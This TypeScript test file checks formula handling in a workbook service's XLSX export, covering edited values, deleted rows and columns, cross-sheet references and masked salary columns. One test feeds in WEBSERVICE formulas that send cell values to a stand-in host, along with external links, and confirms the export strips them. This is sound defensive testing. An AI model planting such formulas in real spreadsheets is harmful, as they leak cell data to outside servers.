import type { CellObject } from '@e965/xlsx'
import { expect, test } from 'vitest'
import { exportFile, openBook, rowsIn } from '../../../test/export-file.ts'
import { startService } from '../../../test/service.ts'
import { uploadTo } from '../../../test/upload.ts'
import { type Cells, workbookFile } from '../../../test/workbook-file.ts'

const service = startService()

const computed = (f: string, v: number | string): CellObject =>
  typeof v === 'number' ? { t: 'n', v, f } : { t: 's', v, f }

/** A title, an empty row, and a list below whose amounts and running totals are computed. */
const INVOICES: Cells = [
  ['請求書'],
  [],
  ['品名', '数量', '単価', '金額', '累計'],
  ['紙', 2, 500, computed('B4*C4', 1000), computed('SUM(D$4:D4)', 1000)],
  ['筆', 3, 200, computed('B5*C5', 600), computed('SUM(D$4:D5)', 1600)],
  ['墨', 1, 900, computed('B6*C6', 900), computed('SUM(D$4:D6)', 2500)],
]

async function newInvoices(sheets: Record<string, Cells> = { 請求: INVOICES }, structuring = 'auto') {
  const { id, owner } = await service.newWorkbook()
  const at = `/api/v1/workbooks/${id}`
  const upload = { bytes: workbookFile(sheets), filename: '請求.xlsx', fields: { structuring } }
  const { status } = await uploadTo(service.url(), owner.session, `${at}/sources`, upload)
  expect(status).toBe(201)
  const { body: listed } = await owner.call('GET', `${at}/tables`)
  const table: string = listed.tables.find(({ state }: { state: string }) => state === 'active').name
  const take = async (asked: object = {}) => {
    const { headers, bytes } = await exportFile(service.url(), owner, at, { formula_mode: 'preserve', ...asked })
    const book = openBook(bytes)
    const sheet = book.Sheets[book.SheetNames[0] ?? '']
    const formulas = Object.entries(sheet ?? {}).flatMap(([cell, { f }]) => (f ? [[cell, f]] : []))
    const counts = ['preserved', 'dropped'].map((what) => headers.get(`x-svc-${what}-formulas`))
    return { book, bytes, formulas: Object.fromEntries(formulas), counts }
  }
  return { id, owner, at, table: `${at}/tables/${encodeURIComponent(table)}`, name: table, take }
}

test('formulas of a file stand again where their cells stand now, with the values they came to', async () => {
  const { take } = await newInvoices()

  const { book, formulas, counts } = await take()
  const plain = await take({ formula_mode: null })

  expect(formulas).toEqual({
    D2: 'B2*C2', E2: 'SUM(D$2:D2)', D3: 'B3*C3', E3: 'SUM(D$2:D3)', D4: 'B4*C4', E4: 'SUM(D$2:D4)',
  }) // biome-ignore format: a list
  expect(counts).toEqual(['6', '0'])
  expect(rowsIn(book)).toEqual(rowsIn(plain.book))
  expect([plain.formulas, plain.counts]).toEqual([{}, ['0', '0']])
})

test('a value that was edited stays a value, and its neighbours stay formulas', async () => {
  const { owner, table, take } = await newInvoices()
  await owner.call('POST', `${table}/rows`, { expected_version: null, rows: [{ __svc_row_id: 2, 金額: 555 }] })

  const { book, formulas, counts } = await take()

  expect(formulas).not.toHaveProperty('D3')
  expect(formulas).toHaveProperty('D2')
  expect(counts).toEqual(['5', '1'])
  expect(rowsIn(book)[2]?.[3]).toBe(555)
})

test('a formula is lost with a row or column it refers to, and moves with those that are left', async () => {
  const { owner, table, take } = await newInvoices()
  await owner.call('POST', `${table}/rows/delete`, { expected_version: null, row_ids: [1] })

  const { formulas, counts } = await take()

  // The sums began in the first row.
  expect(formulas).toEqual({ D2: 'B2*C2', D3: 'B3*C3' })
  expect(counts).toEqual(['2', '2'])

  await owner.call('DELETE', `${table}/columns/${encodeURIComponent('単価')}?expected_version=null`)
  expect((await take()).counts).toEqual(['0', '4'])
})

test('what reaches out of the file is never written', async () => {
  const rows = [
    ['key', 'a', 'b', 'c', 'd', 'e'],
    ...[1, 2, 3].map((n) => [
      `k${n}`,
      n,
      computed(`WEBSERVICE("http://x/"&B${n + 1})`, `w${n}`),
      computed(`HYPERLINK("http://x","l${n}")`, `l${n}`),
      computed(`[1]Other!B${n + 1}`, n),
      computed(`B${n + 1}*2`, 2 * n),
    ]),
  ]
  const { take } = await newInvoices({ s: rows })

  const { bytes, formulas, counts } = await take()

  expect(formulas).toEqual({ F2: 'B2*2', F3: 'B3*2', F4: 'B4*2' })
  expect(counts).toEqual(['3', '9'])
  expect(bytes.includes('WEBSERVICE')).toBe(false)
})

test('of a governed workbook no formula names what is hidden, or tells what was typed into it', async () => {
  const rows = [
    ['name', 'salary', 'bonus', 'double', 'rate', 'typed'],
    ...[1, 2, 3].map((n) => [
      `n${n}`,
      1000 * n,
      computed(`B${n + 1}/10`, 100 * n),
      computed(`E${n + 1}*2`, 2 * n),
      n,
      computed(`E${n + 1}*987654`, 987_654 * n),
    ]),
  ]
  const { owner, at, name, take } = await newInvoices({ s: rows }, 'skip')
  const before = await take()
  await owner.call('POST', `${at}/artifacts/${encodeURIComponent(name)}/columns/salary/tags`, { tag: 'pay' })
  await owner.call('PUT', `${at}/policies/pay`, { effect: 'mask' })

  const masked = await take()

  expect(before.counts).toEqual(['9', '0'])
  expect(masked.formulas).toEqual({ D2: 'E2*2', D3: 'E3*2', D4: 'E4*2' })
  expect(masked.counts).toEqual(['3', '6'])
  await owner.call('PUT', `${at}/policies/pay`, { effect: 'deny' })
  expect((await take()).formulas).toEqual({ C2: 'D2*2', C3: 'D3*2', C4: 'D4*2' })
})

test('formulas between sheets name the sheets of the file that goes out', async () => {
  const prices = [['品', '価格'], ['a', 10], ['b', 20], ['c', 30]] // biome-ignore format: a table
  const orders = [
    ['注文', '数', '計'],
    ...[1, 2, 3].map((n) => [`o${n}`, n, computed(`B${n + 1}*価格表!B${n + 1}`, n * 10 * n)]),
  ]
  const { take, owner, at } = await newInvoices({ 注文: orders, 価格表: prices })
  const { body } = await owner.call('GET', `${at}/tables`)
  const names: string[] = body.tables
    .filter(({ state }: { state: string }) => state === 'active')
    .map(({ name }: { name: string }) => name)

  const all = await take({
    tables: names.toSorted((one, other) => Number(other.includes('注文')) - Number(one.includes('注文'))),
  })
  const alone = await take({ tables: names.filter((name) => name.includes('注文')) })

  expect(all.counts).toEqual(['3', '0'])
  expect(all.formulas.C2).toMatch(/^B2\*'?.*価格表.*'?!B2$/)
  expect(alone.counts).toEqual(['0', '3'])
})
